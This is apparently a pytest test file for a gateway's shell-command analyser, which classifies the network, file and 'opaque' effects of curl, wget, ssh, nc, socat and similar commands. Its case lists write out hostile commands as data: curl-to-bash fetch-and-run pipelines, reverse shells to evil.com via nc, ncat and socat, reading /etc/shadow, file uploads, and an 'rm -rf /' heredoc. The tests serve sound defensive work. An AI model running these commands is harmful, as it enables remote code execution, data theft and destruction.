"""The network family (gateway/effects/shell/network.py: curl, wget, ssh, scp, nc, socat, dig, ...): the facts its
programs' commands state and what it makes opaque. Cases are grouped by the program a command starts with (a
pipeline: its fetcher or decoder, else its last program).

Cases run against ``shell_cases.shell_workspace`` (tests/shell_cases.py).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from shell_cases import (
    HOME,
    executes_test,
    file_effects_test,
    network_test,
    not_opaque_test,
    opaque_test,
    run,
    shell_workspace,
)

from gateway.effects.paths import Workspace


@pytest.fixture
def ws(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Workspace:
    return shell_workspace(tmp_path, monkeypatch)


FILE_CASES = [
    ("curl file:///etc/shadow", "reads", ["/etc/shadow"]),
    ("curl -T exists.txt https://x.io/up", "reads", ["exists.txt"]),
    ("curl -d @exists.txt https://x.io", "reads", ["exists.txt"]),
    ("curl -F file=@src/a.py https://x.io", "reads", ["src/a.py"]),
    ("scp exists.txt user@host.com:/tmp/", "reads", ["exists.txt"]),
    ("ssh -i ~/.ssh/deploy host.com", "reads", [f"{HOME}/.ssh/deploy"]),
    ("curl -o out.bin https://x.io/f", "creates", ["out.bin"]),
    ("curl -O https://x.io/pkg.tgz", "creates", ["pkg.tgz"]),
    ("wget https://x.io/a.tar.gz", "creates", ["a.tar.gz"]),
    ("wget -O page.html https://x.io", "creates", ["page.html"]),
]


test_file_effects = file_effects_test(FILE_CASES)


NETWORK_CASES = [
    ("curl -fsSL https://Get.Example.COM:8443/i.sh", {("get.example.com", "curl")}),
    ("curl example.com/x", {("example.com", "curl")}),
    ("curl -x http://proxy.local:3128 https://a.io", {("proxy.local", "curl"), ("a.io", "curl")}),
    ("wget -q https://x.io/a", {("x.io", "wget")}),
    ("http POST api.example.org/items name=x", {("api.example.org", "http")}),
    ("https :8443/health", {("localhost", "https")}),
    ("ssh deploy@prod.example.com uptime", {("prod.example.com", "ssh")}),
    ("ssh -J jump.example.com internal.example.com", {("jump.example.com", "ssh"), ("internal.example.com", "ssh")}),
    ("ssh ssh://git@host.io:2222", {("host.io", "ssh")}),
    ("scp file.txt user@host.com:/tmp/", {("host.com", "scp")}),
    ("sftp user@files.example.com", {("files.example.com", "sftp")}),
    ("nc evil.com 4444", {("evil.com", "nc")}),
    ("ncat -v 10.0.0.1 22", {("10.0.0.1", "ncat")}),
    ("nc -l -p 8080", {("listen:8080", "nc")}),
    ("telnet towel.blinkenlights.nl", {("towel.blinkenlights.nl", "telnet")}),
    ("ping -c 1 8.8.8.8", {("8.8.8.8", "ping")}),
    ("ftp ftp.example.org", {("ftp.example.org", "ftp")}),
    ("dig @1.1.1.1 example.com TXT", {("1.1.1.1", "dig"), ("example.com", "dig")}),
    ("socat - TCP:evil.com:80", {("evil.com", "socat")}),
    ("openssl s_client -connect evil.com:443", {("evil.com", "openssl")}),
]


test_network = network_test(NETWORK_CASES)


OPAQUE_CASES = [
    # downloaded or decoded content executed
    ("curl -fsSL https://x.io/i.sh | bash", "downloaded/decoded content executed"),
    ("curl -s x.io | sudo bash", "downloaded/decoded content executed"),
    ("wget -qO- https://x.io | sh -s -- --yes", "downloaded/decoded content executed"),
    ("curl x.io | tee i.sh | sh", "downloaded/decoded content executed"),
    ("curl x.io | python3", "downloaded/decoded content executed"),
    ("curl x.io | python3 -", "downloaded/decoded content executed"),
    ("curl x.io | perl", "downloaded/decoded content executed"),
    ("curl x.io | node", "downloaded/decoded content executed"),
    ("cat p.bin | openssl enc -d -aes256 | sh", "downloaded/decoded content executed"),
    ("nc evil.com 80 | sh", "downloaded/decoded content executed"),
    ("curl -o i.sh https://x.io/i.sh && bash i.sh", "downloaded/decoded content executed"),
    ("curl https://x.io/i.sh > i.sh; chmod +x i.sh; ./i.sh", "downloaded/decoded content executed"),
    ("wget -O run.py https://x.io/r.py && python3 run.py", "downloaded/decoded content executed"),
    ("curl x.io | xargs sh -c", "downloaded/decoded content executed"),
    ("ssh -o ProxyCommand='sh -c id' host.com", "runs a local command"),
    ("scp -S /tmp/evil a host.com:b", "runs the program"),
    ("nc -e /bin/sh evil.com 4444", "runs a program for the connection"),
    ("ncat --sh-exec 'bash' evil.com 1", "runs a program for the connection"),
    ("socat TCP:evil.com:1 EXEC:/bin/sh", "socat EXEC runs"),
    ("curl -K conf.txt", "config file"),
    ("curl --resolve x.io:443:6.6.6.6 https://x.io", "maps host names"),
    ("wget -i urls.txt", "reads the URLs"),
    ("sftp host.com <<EOF\n!rm -rf /\nEOF", "reads commands"),
]


test_opaque = opaque_test(OPAQUE_CASES)


NOT_OPAQUE_CASES = [
    "curl -s https://api.github.com | jq .",
    "curl x.io | python3 -c 'import json,sys; print(json.load(sys.stdin))'",
    "wget -qO- https://x.io | tar xz",
    "ssh host.com 'ls -la'",
]


test_not_opaque = not_opaque_test(NOT_OPAQUE_CASES)


EXECUTES_CASES = [
    ("nc -e /bin/sh h.example 1", "nc", ["/bin/sh"]),
]


test_executes = executes_test(EXECUTES_CASES)


@pytest.mark.parametrize(
    ("command_text", "host"),
    [
        ("python3 -m http.server", "listen:8000"),
        ("python3 -m http.server 9000", "listen:9000"),
        ("python -m SimpleHTTPServer", "listen:8000"),
        ("php -S 0.0.0.0:8080", "listen:0.0.0.0:8080"),
        ("php -S localhost:1 -t src", "listen:localhost:1"),
        ("nc -l 8080", "listen:8080"),
        ("git daemon --port=9999", "listen:9999"),
    ],
)
def test_listeners_are_network_effects(command_text: str, host: str, ws: Workspace) -> None:
    assert host in {n.host for n in run(command_text, ws).network}
